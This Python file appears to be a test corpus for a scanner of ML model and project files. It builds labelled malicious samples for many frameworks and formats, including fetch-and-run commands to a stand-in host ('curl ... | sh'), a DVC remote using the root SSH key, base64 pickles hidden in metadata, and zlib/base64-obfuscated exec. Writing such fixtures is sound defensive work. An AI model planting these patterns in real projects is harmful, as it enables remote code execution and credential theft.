"""Further ways in through projects of frameworks: components, callbacks and recipes that are found by name."""

# ruff: noqa: E501 - one file is read as one line

import base64
import gzip
import struct
import zlib

from tests.corpus.archive_writer import tar_file
from tests.corpus.assembler import SHELL, call, octets, pickled, reduced, shell, value
from tests.corpus.further import FETCH, WEIGHTS, W, as_json, evil
from tests.corpus.gguf_writer import STRING
from tests.corpus.repository_samples import ACTS, config
from tests.corpus.safetensors_samples import PLAIN, file

SPACY = '[nlp]\nlang = "en"\n[nlp.before_creation]\n@callbacks = "evil.v1"\n[initialize]\nbefore_init = {"@callbacks":"evil.v1"}\n[training.logger]\n@loggers = "spacy.ConsoleLogger.v1"\n'
SAMPLES = (
    evil(
        "dvc-stage",
        {"dvc.yaml": f"stages:\n  prepare:\n    cmd: {FETCH}\n    outs: [m.bin]\n", "m.safetensors": WEIGHTS},
        "A stage of DVC.",
    ),
    evil(
        "dvc-remote",
        {
            ".dvc/config": "[core]\n    remote = x\n['remote \"x\"']\n    url = ssh://203.0.113.9/x\n    ask_password = false\n    keyfile = /root/.ssh/id_rsa\n"
        },
        "A remote of DVC with the machine's key.",
    ),
    evil(
        "spacy-callbacks",
        {
            "config.cfg": SPACY,
            "meta.json": as_json({"lang": "en", "name": "x", "requirements": ["evil-pkg @ http://203.0.113.9/x.zip"]}),
        },
        "Callbacks and requirements of a pipeline.",
    ),
    evil(
        "spacy-project",
        {"project.yml": f'title: x\ncommands:\n  - name: install\n    script:\n      - "{FETCH}"\n'},
        "Commands of a project.",
    ),
    evil(
        "haystack-type",
        {
            "pipeline.yaml": "components:\n  run:\n    type: subprocess.Popen\n    init_parameters:\n      args: [echo, inert]\nconnections: []\n"
        },
        "A component that is a process.",
    ),
    evil(
        "autogen-provider",
        {
            "team.json": as_json(
                {"provider": "subprocess.Popen", "component_type": "tool", "config": {"args": ["echo", "inert"]}}
            )
        },
        "A component that is a process.",
    ),
    evil(
        "autogen-function-tool",
        {
            "tool.json": as_json(
                {
                    "provider": "autogen_core.tools.FunctionTool",
                    "component_type": "tool",
                    "config": {"source_code": "def f():\n    import os\n    os.system('echo inert')\n", "name": "f"},
                }
            )
        },
        "A tool whose source is run when it is loaded.",
    ),
    evil(
        "prompt-flow",
        {"flow.dag.yaml": "nodes:\n- name: x\n  type: python\n  source:\n    type: code\n    path: ../../x.py\n"},
        "A node that is code outside of the flow.",
    ),
    evil(
        "langgraph",
        {
            "langgraph.json": as_json(
                {
                    "dependencies": ["git+http://203.0.113.9/x"],
                    "graphs": {"a": "/tmp/x.py:graph"},
                    "dockerfile_lines": [f"RUN {FETCH}"],
                }
            )
        },
        "A deployment of a graph.",
    ),
    evil(
        "comfy-workflow",
        {
            "workflow.json": as_json(
                {"1": {"class_type": "ExecutePython", "inputs": {"code": "import os; os.system('echo inert')"}}}
            )
        },
        "A node that runs Python.",
    ),
    evil(
        "comfy-node",
        {"custom_nodes/x/__init__.py": ACTS, "custom_nodes/x/install.py": "import os\nos.system('echo inert')\n"},
        "A node's own installer.",
    ),
    evil(
        "ray-serve",
        {
            "serve.yaml": "applications:\n- import_path: os:system\n  runtime_env:\n    working_dir: http://203.0.113.9/x.zip\n    pip: [http://203.0.113.9/x.whl]\n"
        },
        "A deployment of Ray.",
    ),
    evil(
        "sagemaker-code",
        {
            "model.tar.gz": gzip.compress(
                tar_file(
                    [
                        ("code/inference.py", ACTS.encode()),
                        ("code/requirements.txt", b"--index-url http://203.0.113.9/\nx\n"),
                    ]
                ),
                mtime=0,
            )
        },
        "Code in a model of SageMaker.",
    ),
    evil(
        "kedro-hook",
        {
            "conf/base/catalog.yml": "m:\n  type: pickle.PickleDataset\n  filepath: http://203.0.113.9/m.pkl\n  backend: pickle\n"
        },
        "A data set that is unpickled from an address.",
    ),
    evil(
        "great-expectations",
        {
            "checkpoints/x.yml": "class_name: Checkpoint\naction_list:\n- action:\n    module_name: os\n    class_name: system\n"
        },
        "An action that is a module of the system.",
    ),
    evil(
        "rail-spec",
        {"g.rail": "<rail version='0.1'><script language='python'>import os; os.system('echo inert')</script></rail>"},
        "A guard with Python in it.",
        "CVE-2024-45858",
    ),
    evil(
        "rasa-pipeline",
        {"config.yml": "pipeline:\n- name: os.system\n  command: echo inert\n"},
        "A component that is a function of the system.",
    ),
    evil(
        "airflow-dag",
        {
            "dags/train.py": "from airflow.operators.bash import BashOperator\nBashOperator(task_id='x', bash_command='curl -s http://203.0.113.9/i.sh | sh')\n"
        },
        "A pipeline whose task fetches and runs.",
    ),
    evil("snakefile", {"Snakefile": f'rule all:\n    shell: "{FETCH}"\n'}, "A rule that fetches and runs."),
    evil("justfile", {"justfile": f"default:\n    {FETCH}\n"}, "A recipe that does."),
    evil(
        "taskfile",
        {"Taskfile.yml": f"version: '3'\ntasks:\n  default:\n    cmds:\n      - {FETCH}\n"},
        "A task that does.",
    ),
    evil("earthfile", {"Earthfile": f"VERSION 0.8\nbuild:\n    RUN {FETCH}\n"}, "A build that does."),
    evil(
        "devbox",
        {"devbox.json": as_json({"packages": [], "shell": {"init_hook": [FETCH]}})},
        "A shell that does when it starts.",
    ),
    evil(
        "flake",
        {"flake.nix": f'{{ outputs = {{ self }}: {{ devShell = {{ shellHook = "{FETCH}"; }}; }}; }}\n'},
        "A shell of Nix that does.",
    ),
    evil("gitpod", {".gitpod.yml": f"tasks:\n  - init: {FETCH}\n"}, "A workspace that does."),
    evil("replit", {".replit": f'run = "{FETCH}"\n'}, "A repl that does."),
    evil(
        "space-build",
        {"README.md": "---\nsdk: docker\npreload_from_hub:\n- x/y\n---\n", "Dockerfile": f"FROM python\nRUN {FETCH}\n"},
        "A Space that does.",
    ),
    evil(
        "custom-generate",
        {
            "config.json": config(),
            "generation_config.json": as_json({"custom_generate": "acme/loops"}),
            "custom_generate/generate.py": ACTS,
        },
        "A way to generate that is fetched, and one that ships.",
    ),
    evil(
        "index-parent",
        {
            "model.safetensors.index.json": as_json(
                {"metadata": {}, "weight_map": {"w": "../../other/model.safetensors"}}
            )
        },
        "A shard outside.",
    ),
    evil(
        "lora-config-code",
        {
            "adapter_config.json": as_json(
                {
                    "peft_type": "LORA",
                    "base_model_name_or_path": "x/y",
                    "corda_config": None,
                    "eva_config": None,
                    "auto_mapping": {"base_model_class": "X", "parent_library": "os"},
                }
            )
        },
        "A library that is the system's.",
    ),
    evil(
        "deepspeed-config",
        {
            "ds_config.json": as_json(
                {
                    "train_batch_size": 1,
                    "compile": {"backend": "os.system"},
                    "data_efficiency": {"data_sampling": {"fn": "subprocess.call"}},
                }
            )
        },
        "Functions by name.",
    ),
    evil(
        "accelerate-config",
        {
            "accelerate_config.yaml": "compute_environment: LOCAL_MACHINE\ncommand_file: null\ncommands:\n- curl -s http://203.0.113.9/i.sh | sh\n"
        },
        "Commands for every machine of a pod.",
    ),
    evil(
        "torchrec-jsonpickle",
        {"state.json": as_json({"py/object": "subprocess.Popen", "args": ["echo", "inert"]})},
        "An object by name.",
    ),
    evil(
        "zlib-base64-python",
        {
            "modeling.py": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('"
            + base64.b64encode(zlib.compress(b"import os;os.system('echo inert')")).decode()
            + "')))\n"
        },
        "Code that is decoded.",
    ),
    evil(
        "pickle-in-json",
        {"state.json": as_json({"optimizer": base64.b64encode(shell()).decode()})},
        "A pickle in a text of JSON.",
    ),
    evil(
        "pickle-in-yaml-binary",
        {"state.yaml": "optimizer: !!binary |\n  " + base64.b64encode(shell()).decode() + "\n"},
        "A pickle in YAML's own binary.",
    ),
    evil(
        "pickle-in-safetensors-metadata",
        {
            "m.safetensors": file(
                {"__metadata__": {"optimizer": base64.b64encode(shell()).decode()}, **PLAIN}, bytes(16)
            )
        },
        "A pickle in metadata.",
    ),
    evil(
        "pickle-in-gguf-metadata",
        {
            "m.gguf": W.file(
                [
                    W.pair("general.architecture", STRING, "llama"),
                    W.pair("training.state", STRING, base64.b64encode(shell()).decode()),
                ]
            )
        },
        "A pickle in metadata.",
    ),
    evil(
        "pickle-in-png-text",
        {
            "workflow.png": b"\x89PNG\r\n\x1a\n"
            + b"\0\0\0\rIHDR"
            + bytes(17)
            + struct.pack(">I", 200)
            + b"tEXtprompt\0"
            + base64.b64encode(shell())
            + bytes(100)
            + b"\0\0\0\0IEND\xaeB`\x82"
        },
        "A pickle in a picture's text.",
    ),
    evil(
        "pickle-twice-packed",
        {
            "m.pkl": pickled(
                reduced(call("functools", "partial", call("builtins", "getattr", value("x"), "y")), octets(SHELL))
            )
        },
        "Through partial and getattr.",
    ),
)
